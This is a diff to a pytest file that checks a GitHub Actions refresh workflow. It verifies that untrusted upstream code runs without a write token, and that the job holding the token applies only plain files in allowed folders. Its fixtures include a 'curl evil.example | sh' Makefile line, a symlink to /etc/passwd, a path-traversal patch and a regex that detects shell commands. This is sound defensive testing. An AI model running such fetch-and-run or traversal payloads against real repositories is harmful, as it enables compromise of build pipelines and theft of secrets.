@@ -154,13 +154,130 @@ def test_ci_runs_check_test_and_the_lowest_versions_on_pull_requests() -> None:
 def test_refresh_runs_make_update_weekly_with_one_pull_request_per_api() -> None:
     refresh = _load(WORKFLOWS / "refresh.yml")
     assert refresh["on"]["schedule"][0]["cron"].split()[4] != "*"  # one day of the week
-    update = refresh["jobs"]["update"]
-    assert update["strategy"]["matrix"]["api"] == "${{ fromJSON(needs.apis.outputs.names) }}"
-    runs = _runs(refresh)
-    assert 'make update API="$API"' in runs
-    assert "build/update/$API.md" in runs and "--body-file" in runs
-    assert "label breaking-change" in runs and ".breaking > 0" in runs
-    assert update["env"]["BRANCH"] == "upstream/${{ matrix.api }}"
+    update, pull_request = refresh["jobs"]["update"], refresh["jobs"]["pull-request"]
+    for job in (update, pull_request):
+        assert job["strategy"]["matrix"]["api"] == "${{ fromJSON(needs.apis.outputs.names) }}"
+    updating = _runs({"jobs": {"update": update}})
+    assert 'make update API="$API"' in updating
+    assert "make check && make test" in updating
+    opening = _runs({"jobs": {"pull-request": pull_request}})
+    assert "--body-file" in opening
+    assert "label breaking-change" in opening and ".breaking > 0" in opening
+    assert pull_request["env"]["BRANCH"] == "upstream/${{ matrix.api }}"
+
+
+def test_refresh_runs_upstreams_text_without_a_write_token_and_opens_the_pull_request_apart() -> (
+    None
+):
+    """The job that fetches, generates and tests from upstream's text can write nothing and
+    sees no secret; the job that holds the write token runs nothing of the repository's or
+    the artifact's: git applies the checked patch, gh opens the pull request."""
+    refresh = _load(WORKFLOWS / "refresh.yml")
+    update, pull_request = refresh["jobs"]["update"], refresh["jobs"]["pull-request"]
+    assert refresh["permissions"] == {"contents": "read"}
+    assert update["permissions"] == {"contents": "read"}
+    assert "secrets." not in yaml.safe_dump(update)
+    uploads = [s for s in update["steps"] if "upload-artifact" in s.get("uses", "")]
+    assert [upload["with"]["name"] for upload in uploads] == ["update-${{ matrix.api }}"]
+
+    assert pull_request["needs"] == ["apis", "update"]
+    assert pull_request["permissions"] == {"contents": "write", "pull-requests": "write"}
+    assert "secrets.UPSTREAM_REFRESH_TOKEN" in pull_request["env"]["GH_TOKEN"]
+    actions = [step["uses"].split("@")[0] for step in pull_request["steps"] if "uses" in step]
+    assert actions == ["actions/checkout", "actions/download-artifact"]
+    opening = _runs({"jobs": {"pull-request": pull_request}})
+    command = re.compile(
+        r"(^|[;&|(]|\bthen|\bdo)\s*(make|python3?|pip|npm|bash|sh|source|\.|\./\S+)\s"
+    )
+    assert not [line for line in opening.splitlines() if command.search(line)]
+    assert opening.index("--numstat") < opening.index('git apply --index "$patch"')
+
+
+def _patch_check() -> str:
+    [step] = [
+        step
+        for step in _load(WORKFLOWS / "refresh.yml")["jobs"]["pull-request"]["steps"]
+        if str(step.get("name", "")).startswith("Apply the patch")
+    ]
+    return str(step["run"])
+
+
+def _git(repo: Path, *args: str) -> str:
+    return subprocess.run(
+        ["git", *args], cwd=repo, capture_output=True, text=True, check=True
+    ).stdout
+
+
+def _repo(tmp_path: Path) -> Path:
+    repo = tmp_path / "repo"
+    (repo / "specs").mkdir(parents=True)
+    (repo / "generated" / "pkg").mkdir(parents=True)
+    (repo / "specs" / "api.yaml").write_text("openapi: 3.1.0\n")
+    (repo / "generated" / "pkg" / "m.py").write_text("x = 1\n")
+    (repo / "Makefile").write_text("all:\n")
+    _git(repo, "init", "-q")
+    _git(repo, "add", "-A")
+    _git(repo, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base")
+    return repo
+
+
+def _change(repo: Path, how: str) -> None:
+    if how == "good":
+        (repo / "specs" / "api.yaml").write_text("openapi: 3.1.1\n")
+        (repo / "generated" / "pkg" / "new.py").write_text("y = 2\n")
+    elif how == "outside":
+        (repo / ".github").mkdir()
+        (repo / ".github" / "evil.yml").write_text("on: push\n")
+    elif how == "symlink":
+        (repo / "specs" / "link").symlink_to("/etc/passwd")
+    elif how == "executable":
+        (repo / "generated" / "pkg" / "run.sh").write_text("#!/bin/sh\n")
+        (repo / "generated" / "pkg" / "run.sh").chmod(0o755)
+    elif how == "rename-out":
+        _git(repo, "mv", "specs/api.yaml", "tools.yaml")
+    elif how == "makefile":
+        (repo / "Makefile").write_text("all:\n\tcurl evil.example | sh\n")
+
+
+@pytest.mark.parametrize(
+    "how", ["good", "outside", "symlink", "executable", "rename-out", "makefile", "dot-dot"]
+)
+def test_the_pull_request_job_applies_only_plain_files_in_the_three_folders(
+    tmp_path: Path, how: str
+) -> None:
+    """The check the write-token job runs on the artifact's patch, run here on patches made
+    the way the update job makes them (and one written by hand)."""
+    repo = _repo(tmp_path)
+    handover = tmp_path / "handover"
+    handover.mkdir()
+    if how == "dot-dot":
+        (handover / "change.patch").write_text(
+            "diff --git a/specs/../Makefile b/specs/../Makefile\n"
+            "--- a/specs/../Makefile\n+++ b/specs/../Makefile\n"
+            "@@ -1 +1,2 @@\n all:\n+\tcurl evil.example | sh\n"
+        )
+    else:
+        _change(repo, how)
+        _git(repo, "add", "-A")
+        (handover / "change.patch").write_text(_git(repo, "diff", "--cached", "--binary"))
+        _git(repo, "reset", "-q", "--hard")
+        _git(repo, "clean", "-qfd")
+    result = subprocess.run(
+        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", _patch_check()],
+        cwd=repo,
+        env={"HANDOVER": str(handover), "PATH": "/usr/bin:/bin"},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+    staged = _git(repo, "diff", "--cached", "--name-only").split()
+    if how == "good":
+        assert result.returncode == 0, result.stdout + result.stderr
+        assert staged == ["generated/pkg/new.py", "specs/api.yaml"]
+    else:
+        assert result.returncode != 0, result.stdout + result.stderr
+        assert staged == []
+        assert (repo / "Makefile").read_text() == "all:\n"
 
 
 def test_release_publishes_a_tag_with_trusted_publishing() -> None:
